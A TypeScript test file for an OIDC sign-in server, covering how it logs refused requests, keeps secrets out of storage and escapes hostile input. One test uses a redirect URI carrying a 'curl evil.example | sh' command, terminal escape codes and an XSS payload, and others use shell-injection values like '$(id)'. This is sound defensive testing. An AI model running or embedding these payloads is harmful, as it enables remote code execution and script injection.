// Strangers and hostile values in the refused requests of an application (decision 0086).
import type { AdminApiEndpointOutput } from '@countersign/api/admin-api-endpoints'
import { ethereumTestKeys } from '@countersign/testing/ethereum-test-keys'
import { describe, expect, test } from 'vitest'
import { openBrowserWithRole } from '../../../testing/admin-role-test-steps.ts'
import { openSteppedUpBrowser } from '../../../testing/countersign-test-server.ts'
import type { TestServer } from '../../../testing/countersign-test-server.ts'
import {
  addTestClientApplication,
  createAuthorizationUrl,
  createOidcTestServer,
  getInteractionIdFromRedirect,
  getRedirectLocation,
  obtainTokens,
  postFormAsApplication,
  runOidcAuthorizationUntilCallback,
} from '../../../testing/oidc-application-test-steps.ts'
import { addTestResource } from '../../../testing/oauth-resource-fixtures.ts'
import { readApplicationProblems, readOnlyApplicationProblem } from '../../../testing/refused-request-test-steps.ts'

type Problems = AdminApiEndpointOutput<'readApplicationProblems'>

const readRows = (app: TestServer) => app.database.queries.selectFrom('refused_requests').selectAll().execute()

const sendUnregisteredRedirect = (
  app: TestServer,
  application: Parameters<typeof createAuthorizationUrl>[0],
  redirectUri: string,
  parameters: Record<string, string | undefined> = {},
) => app.openBrowser().send('GET', createAuthorizationUrl({ ...application, redirectUri }, parameters))

describe('O33: strangers', () => {
  test('cannot push out requests of signed-in people and of the authenticated application', async () => {
    const environment = { COUNTERSIGN_REFUSED_REQUESTS_PER_APPLICATION: '10' }
    const app = await createOidcTestServer({ environment })
    const application = await addTestClientApplication(app)
    const alice = await openSteppedUpBrowser(app, ethereumTestKeys.alice)
    await alice.send('GET', createAuthorizationUrl(application, { response_type: 'token' }))
    await postFormAsApplication(app, '/token', application, { grant_type: 'password' })
    await app.storeRefusedRequests()
    for (let round = 0; round < 3; round += 1) {
      app.pass(1000)
      for (let request = 0; request < 8; request += 1)
        await sendUnregisteredRedirect(app, application, `https://evil.example/${round}/${request}`)
      await app.storeRefusedRequests()
    }
    const rows = await readRows(app)
    expect(rows.filter(({ caller }) => caller === 'unknown')).toHaveLength(3)
    expect(
      rows
        .filter(({ caller }) => caller === 'own')
        .map(({ problem }) => (JSON.parse(problem) as { error: string }).error),
    ).toEqual(expect.arrayContaining(['unsupported_response_type', 'unsupported_grant_type']))
  })

  test('cause no database write with their request', async () => {
    const app = await createOidcTestServer()
    const application = await addTestClientApplication(app)
    for (let request = 0; request < 5; request += 1)
      await sendUnregisteredRedirect(app, application, 'https://evil.example/cb')
    expect(await readRows(app)).toEqual([])
    await app.storeRefusedRequests()
    expect(await readRows(app)).toMatchObject([{ count: 5, caller: 'unknown' }])
  })

  test('learn from error_uri only what the error itself says', async () => {
    const app = await createOidcTestServer()
    const application = await addTestClientApplication(app)
    const bodies = []
    for (const [id, secret] of [
      [application.id, 'wrong'],
      ['unknown-app', 'wrong'],
    ] as const)
      bodies.push((await postFormAsApplication(app, '/introspect', { id, secret }, { token: 'x' })).json<object>())
    expect(bodies[0]).toEqual(bodies[1])
    const page = await app.http.inject({ url: '/troubleshooting' })
    expect(page.body).not.toContain(application.id)
  })

  // With backtracking, such a header would take many minutes.
  test.each(['.', 'a.', 'a.b.'])('cannot stop the server with a long Authorization header of %j', async (text) => {
    const app = await createOidcTestServer()
    const headers = { authorization: `Bearer ${text.repeat(15_000 / text.length)} x` }
    for (const url of ['/userinfo', '/jwks']) await app.http.inject({ url, headers })
    expect((await app.http.inject({ method: 'POST', url: '/userinfo', headers })).statusCode).toBe(400)
  })

  test('are not own callers because of a code that no person has approved', async () => {
    const app = await createOidcTestServer()
    const application = await addTestClientApplication(app, { kind: 'device', dpopRequired: true })
    const started = await postFormAsApplication(app, '/device/authorize', application, { scope: 'openid' })
    const { device_code } = started.json<{ device_code: string }>()
    await postFormAsApplication(app, '/token', application, {
      grant_type: 'urn:ietf:params:oauth:grant-type:device_code',
      device_code,
    })
    await app.storeRefusedRequests()
    expect((await readRows(app)).map(({ caller }) => caller)).toEqual(['unknown'])
  })
})

describe('O34: hostile and secret values', () => {
  const secrets = {
    state: 'the-state',
    nonce: 'the-nonce',
    login_hint: '0x00000000000000000000000000000000000000aa',
    id_token_hint: 'eyJhbGciOiJub25lIn0.eyJzdWIiOiJhbGljZSJ9.',
    client_secret: 'the-secret',
    code: 'the-code',
    code_verifier: 'the-verifier',
    refresh_token: 'the-refresh-token',
    token: 'the-token',
    user_code: 'the-user-code',
    device_code: 'the-device-code',
    claims: '{"id_token":{"sub":{"value":"the-sub"}}}',
    request: 'the-request',
    custom: 'the-custom-value',
  }

  test('parameters that can contain secrets or personal data are never stored', async () => {
    const app = await createOidcTestServer()
    const application = await addTestClientApplication(app)
    const leaking = `https://app.example/cb?code=${secrets.code}&state=${secrets.state}#${secrets.token}`
    await sendUnregisteredRedirect(app, application, leaking, secrets)
    for (const path of ['/token', '/par', '/introspect', '/revoke', '/device/authorize'])
      await postFormAsApplication(
        app,
        path,
        { ...application, secret: 'the-secret' },
        { ...secrets, client_secret: '', grant_type: 'authorization_code', scope: 'openid' },
      )
    await app
      .openBrowser()
      .send(
        'GET',
        `/end-session?${new URLSearchParams({ ...secrets, client_id: application.id, post_logout_redirect_uri: leaking })}`,
      )
    await app.storeRefusedRequests()
    const rows = await readRows(app)
    expect(new Set(rows.map(({ problem }) => (JSON.parse(problem) as { endpoint: string }).endpoint))).toEqual(
      new Set(['/authorize', '/token', '/par', '/introspect', '/revoke', '/device/authorize', '/end-session']),
    )
    const stored = JSON.stringify(rows)
    for (const secret of [...Object.values(secrets), 'the-sub', application.secret ?? '-'])
      expect([secret, stored.includes(secret)]).toEqual([secret, false])
  })

  test('control characters and HTML are escaped, and the command contains nothing that was sent', async () => {
    const app = await createOidcTestServer()
    const application = await addTestClientApplication(app)
    const hostile = "https://evil.example/'; curl evil.example | sh #\u001b[2J\u202e<img src=x onerror=alert(1)>"
    await sendUnregisteredRedirect(app, application, hostile)
    const { browser } = await openBrowserWithRole(app, ethereumTestKeys.bob, 'auditor')
    const { problems } = (
      await browser.send('GET', `/api/admin/applications/${application.id}/problems`)
    ).json<Problems>()
    expect(problems).toHaveLength(1)
    const [problem] = problems
    expect(problem?.command).toBe(
      'npx countersign application change test-app --redirect https://app.example/callback --redirect URI',
    )
    expect(problem?.change).not.toContain('evil')
    expect(JSON.stringify(problem?.sent)).toMatch(/^[\u0020-\u007e]*$/)
  })

  test.each([
    ['https://app.example/cb?a=1&b=2', '"https://app.example/cb?a=1&b=2"'],
    ['https://app.example/$(id)', 'URI'],
    ["https://app.example/';id", 'URI'],
    ['https://app.example/%41PATH%41', 'URI'],
  ])('a registered redirect URI cannot run anything in a shell: %s', async (redirectUri, shown) => {
    const app = await createOidcTestServer()
    const application = await addTestClientApplication(app, { redirectUris: [redirectUri] })
    await sendUnregisteredRedirect(app, application, 'https://evil.example/')
    expect(await readOnlyApplicationProblem(app)).toMatchObject({
      command: `npx countersign application change test-app --redirect ${shown} --redirect URI`,
    })
  })

  test('an API address that was sent is in no command and in no advice', async () => {
    const app = await createOidcTestServer()
    await addTestResource(app, { resource: 'https://closed.example/evil' })
    const resources = [
      { resource: 'https://api.example/v2', scopes: ['read'] },
      { resource: 'https://api.example/v1', scopes: ['read', 'write'] },
    ]
    const application = await addTestClientApplication(app, { resources })
    const advice = async (resource: string) => {
      await app.openBrowser().send('GET', createAuthorizationUrl(application, { resource }))
      const found = (await readApplicationProblems(app)).find(({ sent }) => sent['resource'] === resource)
      expect([found?.change, found?.command].join(' ')).not.toContain('evil')
      return found
    }
    expect(await advice('https://api.example/v1/evil')).toMatchObject({
      entry: 'target',
      expected: { resource: ['https://api.example/v1', 'https://api.example/v2'] },
      nearest: 'https://api.example/v1',
      change: expect.stringContaining('https://api.example/v1, https://api.example/v2.') as string,
      command: 'npx countersign resource add ADDRESS',
    })
    expect(await advice('https://closed.example/evil')).toMatchObject({
      command:
        'npx countersign application change test-app --resource "https://api.example/v2 read" --resource "https://api.example/v1 read write" --resource "ADDRESS SCOPES"',
    })
  })

  test.each([{ alg: 5 }, { alg: null }, { alg: ['ES256'] }])(
    'an assertion with the header %j is refused like any other',
    async (header) => {
      const app = await createOidcTestServer()
      const application = await addTestClientApplication(app)
      const encode = (part: object): string => Buffer.from(JSON.stringify(part)).toString('base64url')
      const form = {
        grant_type: 'authorization_code',
        client_assertion: `${encode(header)}.${encode({ sub: application.id, aud: [5, null], iat: 'x', exp: -1e300 })}.x`,
        client_assertion_type: 'urn:ietf:params:oauth:client-assertion-type:jwt-bearer',
      }
      const answer = await postFormAsApplication(app, '/token', { ...application, secret: null }, form)
      expect([answer.statusCode, answer.json()]).toMatchObject([401, { error: 'invalid_client' }])
      await app.storeRefusedRequests()
      expect(await readRows(app)).toHaveLength(1)
    },
  )

  test('the request ID on the error page finds the problem only with permission', async () => {
    const app = await createOidcTestServer()
    const application = await addTestClientApplication(app)
    const response = await sendUnregisteredRedirect(app, application, 'https://app.example/other', {
      response_type: 'token',
    })
    const id = new URL(getRedirectLocation(response), 'https://sign-in.example').searchParams.get('request') ?? ''
    const path = `/api/admin/refused-requests/${id}`
    const { browser: owner } = await openBrowserWithRole(app, ethereumTestKeys.bob, 'owner')
    const { browser: alice } = await openBrowserWithRole(app, ethereumTestKeys.alice, null)
    const { problems } = (await owner.send('GET', path)).json<Problems>()
    expect(problems.map(({ entry }) => entry).toSorted()).toEqual(['redirect-unregistered', 'response-type'])
    expect((await owner.send('GET', '/api/admin/refused-requests/00000000000000000000000000')).json()).toEqual({
      problems: [],
    })
    expect((await alice.send('GET', path)).json()).toMatchObject({ code: 'permission.denied' })
    expect((await app.openBrowser().send('GET', path)).json()).toMatchObject({ code: 'session.required' })
  })
})

describe('refused requests', () => {
  test('a person who declines, prompt=none without a session and a polling device are no problems', async () => {
    const app = await createOidcTestServer()
    const application = await addTestClientApplication(app)
    const browser = app.openBrowser()
    await browser.send('GET', createAuthorizationUrl(application, { prompt: 'none' }))
    const started = await browser.send('GET', createAuthorizationUrl(application))
    const interaction = getInteractionIdFromRedirect(started)
    await browser.send('POST', `/api/interactions/${interaction}/deny`)
    const declined = await browser.send('GET', `/authorize/${interaction}`)
    expect(getRedirectLocation(declined)).toContain('error=access_denied')
    await app.storeRefusedRequests()
    expect(await readRows(app)).toEqual([])
  })

  test('a secret in the header and in the body is a problem, although it comes before the client', async () => {
    const app = await createOidcTestServer()
    const application = await addTestClientApplication(app)
    await postFormAsApplication(app, '/token', application, { client_secret: 'x', grant_type: 'authorization_code' })
    expect(await readOnlyApplicationProblem(app)).toMatchObject({ caller: 'unknown', error: 'invalid_request' })
  })

  test('a sign-in that ends because its application was disabled does not blame cookies', async () => {
    const app = await createOidcTestServer()
    const browser = app.openBrowser()
    const started = await browser.send('GET', createAuthorizationUrl(await addTestClientApplication(app)))
    await app.database.queries.updateTable('applications').set({ enabled: 0 }).execute()
    const interaction = getInteractionIdFromRedirect(started)
    await browser.send('GET', `/api/interactions/${interaction}`)
    await browser.send('GET', `/authorize/${interaction}`)
    await app.storeRefusedRequests()
    expect(await readRows(app)).toEqual([])
  })

  test('an access token without the scope openid is a problem of its application at userinfo', async () => {
    const app = await createOidcTestServer()
    const application = await addTestClientApplication(app, { scopes: ['openid', 'profile'] })
    const { access_token } = await obtainTokens(app, app.openBrowser(), application, {
      scope: 'profile',
      nonce: undefined,
    })
    const answer = await app.http.inject({ url: '/userinfo', headers: { authorization: `Bearer ${access_token}` } })
    expect(answer.json()).toMatchObject({
      error: 'insufficient_scope',
      error_uri: 'https://sign-in.example/troubleshooting#token-without-openid',
    })
    expect(await readOnlyApplicationProblem(app)).toMatchObject({
      caller: 'own',
      endpoint: '/userinfo',
      sent: { token_scope: 'profile' },
      expected: { token_scope: ['openid'] },
    })
  })

  test('a valid code of a public client marks the caller as own', async () => {
    const app = await createOidcTestServer()
    const application = await addTestClientApplication(app, { kind: 'single-page' })
    const callback = await runOidcAuthorizationUntilCallback(app.openBrowser(), application)
    const code = callback.searchParams.get('code') ?? ''
    const form = {
      grant_type: 'authorization_code',
      redirect_uri: application.redirectUri,
      code_verifier: 'x'.repeat(43),
    }
    await postFormAsApplication(app, '/token', application, { ...form, code: 'unknown' })
    await postFormAsApplication(app, '/token', application, { ...form, code })
    await app.storeRefusedRequests()
    const rows = (await readRows(app)).map(({ caller, problem }) => [
      caller,
      (JSON.parse(problem) as { entry: string }).entry,
    ])
    expect(rows).toEqual(
      expect.arrayContaining([
        ['unknown', 'code-expired'],
        ['own', 'pkce-wrong'],
      ]),
    )
  })

  test('error_uri is in form posts, fragments and redirects to private-use schemes', async () => {
    const app = await createOidcTestServer()
    const application = await addTestClientApplication(app, {
      kind: 'native',
      redirectUris: ['com.example.app:/callback'],
    })
    const send = (parameters: Record<string, string | undefined>) =>
      app.openBrowser().send('GET', createAuthorizationUrl(application, { prompt: 'none login', ...parameters }))
    const uri = 'https://sign-in.example/troubleshooting#prompt'
    const redirect = getRedirectLocation(await send({}))
    expect(redirect).toMatch(/^com\.example\.app:\/callback\?error=/)
    expect(new URL(redirect).searchParams.get('error_uri')).toBe(uri)
    const fragment = getRedirectLocation(await send({ response_mode: 'fragment' }))
    expect(new URLSearchParams(new URL(fragment).hash.slice(1)).get('error_uri')).toBe(uri)
    const form = await send({ response_mode: 'form_post' })
    expect(form.body).toContain(`<input type="hidden" name="error_uri" value="${uri}"/>`)
    const success = getRedirectLocation(await send({ prompt: undefined }))
    expect(success).toMatch(/^\/sign-in\?/)
    expect(success).not.toContain('error_uri')
  })
})
